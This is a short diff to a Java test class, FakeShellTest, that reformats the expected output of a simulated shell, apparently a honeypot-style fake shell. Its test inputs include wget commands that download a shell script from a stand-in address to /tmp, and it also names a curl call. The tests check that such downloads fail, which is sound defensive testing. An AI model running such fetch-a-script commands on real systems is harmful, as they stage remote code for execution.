@@ -83,8 +83,10 @@ class FakeShellTest {
         .isEqualTo("curl: (6) Could not resolve host: a.example\n");
     assertThat(run("wget http://192.0.2.1:8080/a.sh -O /tmp/a"))
         .isEqualTo(
-            "--2026-03-04 05:06:07--  http://192.0.2.1:8080/a.sh\n"
-                + "Connecting to 192.0.2.1:8080... failed: Connection refused.\n");
+            """
+            --2026-03-04 05:06:07--  http://192.0.2.1:8080/a.sh
+            Connecting to 192.0.2.1:8080... failed: Connection refused.
+            """);
     assertThat(run("wget http://192.0.2.1/a.sh && echo got")).doesNotContain("got");
     assertThat(run("ls")).isEmpty();
   }
